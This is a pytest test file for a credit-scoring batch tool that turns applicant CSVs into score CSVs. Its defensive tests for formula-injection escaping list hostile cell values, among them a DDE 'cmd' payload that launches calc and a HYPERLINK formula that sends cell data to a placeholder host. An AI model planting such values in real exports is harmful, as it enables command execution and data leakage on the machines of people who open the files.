from __future__ import annotations

import csv
from typing import TYPE_CHECKING

import pytest

from appliance.errors import BadInput, Cancelled, ColumnsMissing
from appliance.jobs import Job
from appliance.risk.batch import score_csv
from appliance.risk.csv_writer import safe_cell

if TYPE_CHECKING:
    from pathlib import Path

    from appliance.jobs import Progress
    from appliance.packs.records import ModelRecord
    from tests.unit.risk.conftest import InProcessEngine

HEADER = "ID,LIMIT_BAL,SEX,PAY_0,PAY_3,PAY_4,PAY_5,PAY_6,PAY_AMT1,PAY_AMT2,PAY_AMT3,PAY_AMT4"
GOOD = "300000,2,0,0,0,0,0,25000,20000,30000,30000"
POOR = "20000,1,3,2,2,2,2,0,0,0,0"


@pytest.fixture
def source(tmp_path: Path) -> Path:
    path = tmp_path / "applicants.csv"
    path.write_text(f"{HEADER}\nz9,{POOR}\nbad,{POOR.replace('3,2', 'x,2', 1)}\na1,{GOOD}\n")
    return path


def lines_of(path: Path, encoding: str = "utf-8", delimiter: str = ",") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.DictReader(file, delimiter=delimiter))


def test_rows_keep_order_and_id_and_errors_are_listed(
    engine: InProcessEngine, record: ModelRecord, source: Path
) -> None:
    result = score_csv(engine, record, source, job=Job())
    assert [(score.row_id, score.band) for score in result.rows] == [("z9", "E"), ("a1", "A")]
    assert result.row_numbers == (1, 3)
    assert result.failed == 1
    (error,) = result.errors
    assert (error.row, error.row_id, error.column, error.code) == (2, "bad", "PAY_0", "R701")
    assert (result.model, result.version) == ("credit-default", record.manifest.version)
    assert result.digest == record.digest


def test_the_csv_has_a_line_for_every_row_of_the_input(
    engine: InProcessEngine, record: ModelRecord, source: Path, tmp_path: Path
) -> None:
    output = tmp_path / "scores.csv"
    result = score_csv(engine, record, source, output, job=Job())
    lines = lines_of(output)
    assert [(line["ID"], line["row"]) for line in lines] == [("z9", "1"), ("bad", "2"), ("a1", "3")]
    poor, bad, good = lines
    assert float(poor["pd"]) == result.rows[0].pd
    assert int(poor["points"]) == result.rows[0].points
    assert int(poor["distance"]) == result.rows[0].distance
    lost = result.rows[0].reasons[0].points_lost
    assert poor["reason_1"] == f"The latest payment is behind. (−{lost} points)"
    assert good["reason_1"] == good["error"] == ""
    assert (bad["points"], bad["error"]) == ("", "Months behind, latest month is not a number.")
    assert "points_PAY_0" not in poor


def test_explain_adds_points_that_add_up(
    engine: InProcessEngine, record: ModelRecord, source: Path, tmp_path: Path
) -> None:
    output = tmp_path / "scores.csv"
    score_csv(engine, record, source, output, explain=True, job=Job())
    for line in lines_of(output):
        if line["error"]:
            continue
        parts = [int(value) for name, value in line.items() if name.startswith("points_")]
        assert int(line["points"]) == int(line["starting_points"]) + sum(parts)


def test_the_output_is_written_like_the_input(
    engine: InProcessEngine, record: ModelRecord, tmp_path: Path
) -> None:
    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
    text = f"{HEADER}\n客户,{GOOD}\n".replace(",", ";")
    source.write_bytes(text.encode("utf-8-sig"))
    score_csv(engine, record, source, output, job=Job())
    assert output.read_bytes().startswith(b'\xef\xbb\xbf"ID";"row";')
    assert lines_of(output, "utf-8-sig", ";")[0]["ID"] == "客户"


def test_the_output_can_be_read_only_by_its_owner(
    engine: InProcessEngine, record: ModelRecord, source: Path, tmp_path: Path
) -> None:
    output = tmp_path / "scores.csv"
    score_csv(engine, record, source, output, job=Job())
    assert output.stat().st_mode & 0o777 == 0o600


def test_a_file_without_ids_gets_row_numbers_only(
    engine: InProcessEngine, record: ModelRecord, tmp_path: Path
) -> None:
    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
    source.write_text(f"{HEADER.removeprefix('ID,')}\n{GOOD}\n")
    result = score_csv(engine, record, source, output, job=Job())
    assert result.rows[0].row_id is None
    assert next(iter(lines_of(output)[0].items())) == ("row", "1")


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t'=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("-17", "-17"),
        ("+1.5", "+1.5"),
        ("A-17", "A-17"),
        ("", ""),
        ("C-1;=1+1", "C-1;'=1+1"),
        ('C-1;=HYPERLINK("http://x/?"&A1;"ok")', 'C-1;\'=HYPERLINK("http://x/?"&A1;"ok")'),
        ("a,@x", "a,'@x"),
        ("a\t=1", "a\t'=1"),
        ("a|+x", "a|'+x"),
        ("a\n-2+3", "a\n'-2+3"),
        ("a; =1", "a; '=1"),
        ('a;"=1', "a;\"'=1"),
        ("a;;＝1;=2", "a;;'＝1;'=2"),
        (";=1", ";'=1"),
        ("a;-17", "a;-17"),
        ("a; -1.5 ;+2", "a; -1.5 ;+2"),
        ("Smith - Jones = 1", "Smith - Jones = 1"),
        ("from -2 to 8", "from -2 to 8"),
        ("'=1", "'=1"),
    ],
)
def test_c2_41_formula_cells_are_made_harmless(given: str, written: str) -> None:
    assert safe_cell(given) == written


def test_a_long_run_of_separators_takes_no_time() -> None:
    for run in ("\t" * 131_072, ' "' * 65_536, ";" * 131_072, ";-1" * 40_000):
        safe_cell(f"a{run}b")


@pytest.mark.parametrize("other", [",", ";", "\t", "|"])
def test_c2_41_no_formula_whatever_delimiter_the_spreadsheet_expects(
    engine: InProcessEngine, record: ModelRecord, tmp_path: Path, other: str
) -> None:
    ids = ["C-1;=1+1", "a|=1", 'b"; =1', "c\t@x", "d, +x", "e\n=1"]
    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
    with source.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(HEADER.split(","))
        writer.writerows([name, *GOOD.split(",")] for name in ids)
    score_csv(engine, record, source, output, job=Job())
    with output.open(encoding="utf-8", newline="") as file:
        cells = [cell for line in csv.reader(file, delimiter=other) for cell in line]
    assert not [cell for cell in cells if cell.lstrip(' "')[:1] in tuple("=+@")]
    assert [line["ID"] for line in lines_of(output)] == [safe_cell(name) for name in ids]


def test_ids_are_made_harmless_on_export_but_not_in_the_result(
    engine: InProcessEngine, record: ModelRecord, tmp_path: Path
) -> None:
    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
    source.write_text(f"{HEADER}\n=HYPERLINK(1),{GOOD}\n@x,bad{POOR}\n")
    result = score_csv(engine, record, source, output, job=Job())
    assert result.rows[0].row_id == "=HYPERLINK(1)"
    assert [line["ID"] for line in lines_of(output)] == ["'=HYPERLINK(1)", "'@x"]


def test_no_output_after_a_failure_or_a_cancel(
    engine: InProcessEngine, record: ModelRecord, source: Path, tmp_path: Path
) -> None:
    output = tmp_path / "scores.csv"

    def stop_at_writing(progress: Progress) -> None:
        if progress.stage == "writing":
            job.cancel()

    source.write_text(f"{HEADER}\n" + f"a,{GOOD}\n" * 10_000)
    job = Job(stop_at_writing)
    with pytest.raises(Cancelled):
        score_csv(engine, record, source, output, job=job)
    source.write_text("ID,LIMIT_BAL\n1,2\n")
    with pytest.raises(ColumnsMissing):
        score_csv(engine, record, source, output, job=Job())
    assert [path.name for path in tmp_path.iterdir()] == [source.name]


def test_an_existing_output_survives_a_failed_run(
    engine: InProcessEngine, record: ModelRecord, source: Path, tmp_path: Path
) -> None:
    output = tmp_path / "scores.csv"
    output.write_text("old")
    source.write_text("nothing")
    with pytest.raises(ColumnsMissing):
        score_csv(engine, record, source, output, job=Job())
    assert output.read_text() == "old"


def test_places_where_no_output_can_be(
    engine: InProcessEngine, record: ModelRecord, source: Path, tmp_path: Path
) -> None:
    before = source.read_bytes()
    for output, words in (
        (tmp_path, "it is a folder"),
        (tmp_path / "absent" / "scores.csv", "its folder does not exist"),
        (tmp_path / "." / source.name, "never overwritten"),
    ):
        with pytest.raises(BadInput, match=words):
            score_csv(engine, record, source, output, job=Job())
    assert source.read_bytes() == before
